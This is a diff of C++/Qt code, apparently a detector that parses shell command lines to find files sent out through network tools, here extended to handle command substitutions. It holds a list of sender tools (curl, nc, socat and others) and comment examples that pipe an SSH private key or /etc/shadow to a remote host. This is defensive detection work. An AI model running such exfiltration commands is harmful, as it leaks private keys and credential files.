@@ -118,12 +118,70 @@ QStringList uploads(const QList<Word> &words, bool *stdinSent)
     return out;
 }
 
+bool isLoopbackWord(const QString &w)
+{
+    return isLoopback(w.contains(QLatin1String("://")) ? Addresses::urlHost(w)
+                                                       : w.section(u':', 0, 0));
+}
+
+bool isSender(QStringView tool)
+{
+    for (const char16_t *t :
+         {u"curl", u"wget", u"nc", u"ncat", u"netcat", u"telnet", u"ssh", u"socat"}) {
+        if (tool == QStringView(t))
+            return true;
+    }
+    return false;
+}
+
+// The command substitutions of one command ("$(cat ~/.ssh/id_rsa)", `cat f`): ShellCommands
+// lists the commands they run after it, with "$(" or "`" in their `before` (quoted ones behind
+// "; "), and, unquoted, the command's words after the substitution behind ")". What those
+// commands read is part of the command's arguments: sent if it sends, passed on otherwise.
+struct Substitutions {
+    int depth = 0;
+    bool tick = false;     // a ` is open
+    QStringList files;     // what the commands inside read
+    bool loopback = false; // a loopback host among the words after an unquoted substitution
+
+    // Whether `c` belongs to the command before it: runs inside one of its substitutions, or
+    // holds its words after one. Reads `before` operator by operator.
+    bool takes(const ShellCommand &c)
+    {
+        const QStringList ops = c.before.split(u' ', Qt::SkipEmptyParts);
+        bool belongs = depth > 0;
+        for (qsizetype i = 0; i < ops.size(); ++i) {
+            const QString &op = ops[i];
+            if (op == u"$(" || (op == u"`" && !tick)) {
+                tick = tick || op == u"`";
+                ++depth;
+                belongs = true;
+            } else if (op == u")" || op == u"`") {
+                tick = tick && op != u"`";
+                depth = qMax(0, depth - 1);
+                belongs = belongs || depth == 0;
+            } else if (depth == 0 &&
+                       !(i + 1 < ops.size() && (ops[i + 1] == u"$(" || ops[i + 1] == u"`"))) {
+                return false; // ; && | …: the next command (but "; $(" of a quoted one)
+            }
+        }
+        if (!belongs)
+            return false;
+        if (depth > 0) {
+            files += c.operands;
+            inputFiles(c, &files);
+        } else {
+            for (const QString &w : c.words)
+                loopback = loopback || isLoopbackWord(w);
+        }
+        return true;
+    }
+};
+
 bool anyLoopback(const QList<Word> &words)
 {
     for (const Word &w : words) {
-        if (w.option.isEmpty() &&
-            isLoopback(w.value.contains(QLatin1String("://")) ? Addresses::urlHost(w.value)
-                                                              : w.value.section(u':', 0, 0)))
+        if (w.option.isEmpty() && isLoopbackWord(w.value))
             return true;
     }
     return false;
@@ -134,10 +192,27 @@ QList<SentFile> SentFiles::inCommand(const QString &commandLine)
 {
     QList<SentFile> out;
     QStringList piped; // the files the commands piped into this one read
+    QString owner;     // the command whose substitutions follow, if it sends
+    Substitutions subs;
+    const auto endSubstitutions = [&] {
+        if (!owner.isEmpty() && !subs.loopback) {
+            for (const QString &f : std::as_const(subs.files))
+                out.append({f, owner});
+        } else if (owner.isEmpty()) {
+            piped += subs.files; // echo "$(cat /etc/shadow)" | nc host 80
+        }
+        subs = {};
+    };
     for (const ShellCommand &c : ShellCommands::read(commandLine)) {
+        if (subs.takes(c))
+            continue;
+        endSubstitutions();
         if (c.before != QLatin1String("|") && c.before != QLatin1String("|&"))
             piped.clear();
         const QString &tool = c.name;
+        owner = isSender(tool) ? tool : QString();
+        for (qsizetype i = c.program + 1; !owner.isEmpty() && i < c.words.size(); ++i)
+            subs.loopback = subs.loopback || isLoopbackWord(c.words[i]);
         QStringList files;
         bool readsStdin = false;
         if (tool == QLatin1String("scp") || tool == QLatin1String("rsync")) {
@@ -180,6 +255,7 @@ QList<SentFile> SentFiles::inCommand(const QString &commandLine)
         for (const QString &f : std::as_const(files))
             out.append({f, tool});
     }
+    endSubstitutions();
     return out;
 }
 
